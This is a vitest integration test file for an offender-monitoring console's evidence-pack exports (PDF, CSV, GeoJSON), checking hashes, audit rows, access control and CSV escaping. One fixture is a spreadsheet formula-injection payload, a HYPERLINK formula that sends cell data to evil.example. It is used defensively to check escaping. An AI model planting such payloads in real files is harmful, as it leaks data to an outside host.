import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { authHeader, createTestDatabase, startTestService, testConfig, type TestService } from '../support/env.js';
import { withTransaction } from '../../platform/db.js';
import { raiseAlert } from '../../alerts/alerts.repo.js';
import { evidenceCsv } from '../../console/evidence.files.js';
import { ConsoleClient, csrfOf } from './support.js';
import { pdfPages, pdfText } from '../support/pdf.js';

/** Evidence packs (issue 11 §8): the PDF, its companions' SHA-256, audit, caseload, CSV escaping. */

let db: Awaited<ReturnType<typeof createTestDatabase>>;
let svc: TestService;
let alertId: string;
let otherAlertId: string;
const T0 = Date.now() - 3 * 3600_000;
const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1)';
const sha = (b: Buffer | string) => createHash('sha256').update(b).digest('hex');

async function admin(url: string, payload: object) {
  const res = await svc.app.inject({ method: 'POST', url, headers: await authHeader('admin'), payload });
  if (res.statusCode >= 300) throw new Error(`${url}: ${res.statusCode} ${res.body}`);
}

beforeAll(async () => {
  db = await createTestDatabase();
  svc = await startTestService(testConfig({ DATABASE_URL: db.url, DEV_SIGN_IN: 'true' }));
  await admin('/v1/subjects', { id: 'E-S1', display_name: HOSTILE_NAME, cohort: 'fixed', rag: 'red', offender_manager_ids: ['om-1'] });
  await admin('/v1/subjects', { id: 'E-S2', display_name: 'Other Person', cohort: 'fixed', rag: 'green', offender_manager_ids: ['om-2'] });
  await admin('/v1/devices', { id: 'E-D1', kind: 'gps' });
  await admin('/v1/subjects/E-S1/assignments', { device_id: 'E-D1', start: new Date(T0 - 3600_000).toISOString() });
  const zone = await db.pool.query<{ id: string }>(
    `INSERT INTO zones (subject_id, kind, name, geometry, grace_s, created_by) VALUES ('E-S1', 'exclusion', 'Victim street', $1, 60, 'om-1') RETURNING id`,
    [JSON.stringify({ type: 'Polygon', coordinates: [[[-1.1510, 52.9495], [-1.1490, 52.9495], [-1.1490, 52.9515], [-1.1510, 52.9515], [-1.1510, 52.9495]]] })],
  );
  const fixes = [0, 1, 2].map((i) => ({ ts: new Date(T0 + i * 60_000).toISOString(), lat: 52.95 + i * 2e-4, lon: -1.15, accuracy_m: 8 + i * 10, class: i === 2 ? 'uncertain' : 'inside' }));
  for (const f of fixes) {
    await db.pool.query(`INSERT INTO readings (device_id, stream, ts, received_at, lat, lon, accuracy_m, data) VALUES ('E-D1', 'gps', $1, $1::timestamptz + interval '20 minutes', $2, $3, $4, '{}')`, [f.ts, f.lat, f.lon, f.accuracy_m]);
  }
  const r = await withTransaction(db.pool, (tx) => raiseAlert(tx, { type: 'exclusion_breach', subjectId: 'E-S1', deviceId: 'E-D1', zoneId: zone.rows[0]!.id, startedAt: new Date(T0), late: true, evidence: fixes as never }));
  alertId = (r as { alert: { id: string } }).alert.id;
  const o = await withTransaction(db.pool, (tx) => raiseAlert(tx, { type: 'no_signal', subjectId: 'E-S2', deviceId: null, zoneId: null, startedAt: new Date(T0), late: false, evidence: [] }));
  otherAlertId = (o as { alert: { id: string } }).alert.id;
});

afterAll(async () => {
  await svc?.stop();
  await db?.drop();
});

const auditRows = async (actor: string, action: string) =>
  (await db.pool.query(`SELECT subject_id, reason, detail FROM audit_log WHERE actor = $1 AND action = $2 ORDER BY id`, [actor, action])).rows as Array<{ subject_id: string | null; reason: string | null; detail: Record<string, unknown> }>;

describe('evidence pack of an alert', () => {
  it('is a valid PDF linked from the alert page, whose listed SHA-256 equal those of the CSV and GeoJSON downloads', async () => {
    const c = new ConsoleClient(svc.app);
    await c.signIn('offender_manager', 'om-1');
    const page = await c.get(`/console/alerts/${alertId}`);
    expect(page.statusCode).toBe(200);
    expect(page.body).toContain(`href="/console/alerts/${alertId}/evidence.pdf"`);
    expect(page.body).toContain(`href="/console/alerts/${alertId}/evidence.csv"`);

    const pdf = await c.get(`/console/alerts/${alertId}/evidence.pdf`);
    expect(pdf.statusCode).toBe(200);
    expect(pdf.headers['content-type']).toBe('application/pdf');
    expect(pdf.headers['content-disposition']).toBe(`attachment; filename="alert-${alertId}.pdf"`);
    const text = pdfText(pdf.rawPayload);
    expect(pdfPages(pdf.rawPayload)).toBeGreaterThanOrEqual(2);
    const csv = await c.get(`/console/alerts/${alertId}/evidence.csv`);
    const geojson = await c.get(`/console/alerts/${alertId}/evidence.geojson`);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(geojson.headers['content-type']).toBe('application/geo+json; charset=utf-8');
    expect(text).toContain(`SHA-256 ${sha(csv.rawPayload)}`);
    expect(text).toContain(`SHA-256 ${sha(geojson.rawPayload)}`);
    // case summary, late in words, scale, versions, generation
    expect(text).toContain('Entered an exclusion zone');
    expect(text).toContain('E-S1');
    expect(text).toMatch(/Late: This alert was raised late/);
    expect(text).toMatch(/Diagram to scale, about 1:[\d,]+ on A4 \(scale bar \d+ m\)\. Local equirectangular projection/);
    expect(text).toContain('Rule version');
    expect(text).toMatch(/Zone Victim street\s+exclusion/);
    expect(text).toContain('om-1 (offender manager)');
    expect(text).toMatch(/Fixes \(3\)/);
    // the same data gives the same bytes: a second download is identical
    expect(sha((await c.get(`/console/alerts/${alertId}/evidence.csv`)).rawPayload)).toBe(sha(csv.rawPayload));
    expect(sha((await c.get(`/console/alerts/${alertId}/evidence.geojson`)).rawPayload)).toBe(sha(geojson.rawPayload));
    const gj = geojson.json() as { features: Array<{ properties: { role: string } }> };
    expect(gj.features.map((f) => f.properties.role)).toEqual(['zone', 'fix', 'fix', 'fix']);
  });

  it('audits every export with the file’s SHA-256 (and the companions’ for the PDF)', async () => {
    const pdf = await auditRows('om-1', 'evidence.pdf');
    const csv = await auditRows('om-1', 'evidence.csv');
    const geojson = await auditRows('om-1', 'evidence.geojson');
    expect(pdf).toHaveLength(1);
    expect(csv).toHaveLength(2);
    expect(geojson).toHaveLength(2);
    expect(pdf[0]).toMatchObject({ subject_id: 'E-S1', detail: { alert_id: alertId, via: 'console', csv_sha256: csv[0]!.detail.sha256, geojson_sha256: geojson[0]!.detail.sha256 } });
    expect(csv[0]).toMatchObject({ subject_id: 'E-S1', detail: { alert_id: alertId, fixes: 3 } });
  });

  it('is a 404 for another manager’s alert, in every format, and nothing is audited', async () => {
    const c = new ConsoleClient(svc.app);
    await c.signIn('offender_manager', 'om-2');
    for (const f of ['pdf', 'csv', 'geojson']) {
      const res = await c.get(`/console/alerts/${alertId}/evidence.${f}`);
      expect(res.statusCode, f).toBe(404);
      expect(res.body).toContain('Page not found');
    }
    expect(await auditRows('om-2', 'evidence.pdf')).toHaveLength(0);
    expect((await c.get(`/console/alerts/${otherAlertId}/evidence.csv`)).statusCode).toBe(200);
  });

  it('escapes formula text in the CSV (a display name starting with =)', async () => {
    const c = new ConsoleClient(svc.app);
    await c.signIn('offender_manager', 'om-1');
    const csv = (await c.get(`/console/alerts/${alertId}/evidence.csv`)).body;
    const row = csv.split('\r\n')[1]!;
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1)"`);
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
    // every cell of the pure builder goes through the same escaping
    const built = evidenceCsv({ reference: '+ref', subject: { id: '-S', display_name: '@x' }, zones: [], target: null, fixes: [{ n: 1, ts: 't', received_at: null, lat: -1.5, lon: 2, accuracy_m: 3, class: '=1+1', device_id: '\tD', distance_m: null }] });
    expect(built.split('\r\n')[1]).toBe(`"'+ref","'-S","'@x",1,t,,-1.5,2,3,"'=1+1","'\tD",`);
  });

  it('needs a supervisor’s reason, kept in the audit row', async () => {
    const c = new ConsoleClient(svc.app);
    await c.signIn('supervisor', 'sup-1');
    const opened = await c.post(`/console/alerts/${alertId}/open`, { _csrf: csrfOf((await c.get(`/console/alerts/${alertId}`)).body), reason: 'MAPPA review of the breach' });
    expect(opened.statusCode).toBe(303); // POST-redirect-GET: the reason is kept for this record
    const form = await c.get(opened.headers.location as string);
    expect(form.body).toContain(`action="/console/alerts/${alertId}/evidence"`);
    const csrf = csrfOf(form.body);
    const refused = await c.post(`/console/alerts/${alertId}/evidence`, { _csrf: csrf, format: 'pdf', reason: '' });
    expect(refused.statusCode).toBe(400);
    expect((await c.get(`/console/alerts/${alertId}/evidence.pdf`)).statusCode).toBe(403);
    const ok = await c.post(`/console/alerts/${alertId}/evidence`, { _csrf: csrf, format: 'csv', reason: 'court bundle for the hearing' });
    expect(ok.statusCode).toBe(200);
    expect(ok.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(await auditRows('sup-1', 'evidence.csv')).toMatchObject([{ subject_id: 'E-S1', reason: 'court bundle for the hearing' }]);
    expect((await c.post(`/console/alerts/${alertId}/evidence`, { format: 'csv', reason: 'no token here' })).statusCode).toBe(403);
  });
});

describe('evidence pack of a period', () => {
  it('is offered on the subject page and exports the person’s fixes of the period', async () => {
    const c = new ConsoleClient(svc.app);
    await c.signIn('offender_manager', 'om-1');
    const page = await c.get('/console/subjects/E-S1');
    expect(page.body).toContain('data-testid="period-evidence"');
    expect(page.body).toContain('action="/console/subjects/E-S1/evidence"');
    const local = (ms: number) => new Date(ms).toLocaleString('sv-SE', { timeZone: 'Europe/London' }).replace(' ', 'T').slice(0, 16);
    const q = `from=${encodeURIComponent(local(T0 - 60_000))}&to=${encodeURIComponent(local(T0 + 10 * 60_000))}`;
    const csv = await c.get(`/console/subjects/E-S1/evidence?${q}&format=csv`);
    expect(csv.statusCode).toBe(200);
    expect(csv.body.trim().split('\r\n')).toHaveLength(4);
    const pdf = await c.get(`/console/subjects/E-S1/evidence?${q}&format=pdf`);
    expect(pdf.headers['content-type']).toBe('application/pdf');
    expect(pdfText(pdf.rawPayload)).toContain(`SHA-256 ${sha(csv.rawPayload)}`);
    expect((await auditRows('om-1', 'evidence.pdf')).at(-1)).toMatchObject({ subject_id: 'E-S1', detail: { csv_sha256: sha(csv.rawPayload) } });
  });

  it('shows a wrong period in an error summary linked to the field, and another manager’s person is a 404', async () => {
    const c = new ConsoleClient(svc.app);
    await c.signIn('offender_manager', 'om-1');
    const bad = await c.get('/console/subjects/E-S1/evidence?from=2026-12-02T10:00&to=2026-12-01T10:00&format=pdf');
    expect(bad.statusCode).toBe(400);
    expect(bad.body).toContain('govuk-error-summary');
    expect(bad.body).toContain('href="#evidence-to"');
    expect(bad.body).toContain('The end of the period must be after its start');
    const long = await c.get('/console/subjects/E-S1/evidence?from=2026-11-01T10:00&to=2026-11-20T10:00');
    expect(long.body).toContain('The period can be at most 7 days');
    expect((await c.get('/console/subjects/E-S2/evidence?from=2026-11-01T10:00&to=2026-11-02T10:00&format=csv')).statusCode).toBe(404);
  });
});
